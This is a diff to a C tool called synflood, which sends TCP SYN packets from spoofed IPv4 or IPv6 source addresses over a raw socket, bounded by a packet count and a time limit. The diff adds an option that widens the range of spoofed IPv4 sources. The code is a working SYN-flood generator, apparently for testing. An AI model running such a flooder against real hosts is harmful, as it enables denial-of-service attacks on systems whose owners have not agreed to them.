@@ -3,12 +3,13 @@
  * synflood: TCP SYNs from COUNT distinct spoofed sources, as fast as one
  * AF_PACKET socket sends them, bounded by COUNT and by SECONDS.
  *
- *   synflood IFNAME DST-MAC SRC-BASE DST PORT COUNT SECONDS
+ *   synflood IFNAME DST-MAC SRC-BASE DST PORT COUNT SECONDS [SRC-BITS]
  *
  * SRC-BASE is an IPv4 or IPv6 address; packet i comes from SRC-BASE + i in
- * the low 32 bits for IPv6, and for IPv4 from one of the 256 addresses of
- * SRC-BASE's /24 with source port 1024 + i / 256, so every (address, port)
- * is distinct up to 256 * 64512 packets.  Ethernet source is the
+ * the low 32 bits for IPv6, and for IPv4 from one of the 2^SRC-BITS (8, at
+ * most 16) addresses next to SRC-BASE with source port
+ * 1024 + i / 2^SRC-BITS, so every (address, port) is distinct up to
+ * 2^SRC-BITS * 64512 packets.  Ethernet source is the
  * interface's own address.  Prints "sent N in S s (R pkt/s)"; exits 0 when
  * all COUNT went out, 3 when SECONDS ran out first, 1 on an error.
  *
@@ -47,12 +48,21 @@ int main(int argc, char **argv)
 	uint8_t smac[6], dmac[6];
 	double start, limit, now;
 	uint16_t port;
+	unsigned int bits = 8;
+	uint32_t mask;
 	int fd, v6;
 
-	if (argc != 8) {
-		fprintf(stderr, "usage: synflood IFNAME DST-MAC SRC-BASE DST PORT COUNT SECONDS\n");
+	if (argc != 8 && argc != 9) {
+		fprintf(stderr, "usage: synflood IFNAME DST-MAC SRC-BASE DST PORT COUNT SECONDS [SRC-BITS]\n");
 		return 1;
 	}
+	if (argc == 9)
+		bits = (unsigned int)atoi(argv[8]);
+	if (bits < 1 || bits > 16) {
+		fprintf(stderr, "synflood: SRC-BITS must be 1 to 16\n");
+		return 1;
+	}
+	mask = (1u << bits) - 1;
 	v6 = strchr(argv[3], ':') != NULL;
 	if (v6 ? inet_pton(AF_INET6, argv[3], &base6) != 1 ||
 		 inet_pton(AF_INET6, argv[4], &dst6) != 1 :
@@ -99,8 +109,8 @@ int main(int argc, char **argv)
 			} else {
 				struct in_addr src = base4;
 
-				src.s_addr = htonl((ntohl(src.s_addr) & ~0xffu) | (k & 0xff));
-				t.sport = 1024 + (uint16_t)(k / 256);
+				src.s_addr = htonl((ntohl(src.s_addr) & ~mask) | (k & mask));
+				t.sport = 1024 + (uint16_t)((k >> bits) % 64512);
 				t.dport = port;
 				f->len = build_tcp4(f->buf, smac, dmac, src, dst4, &t);
 			}
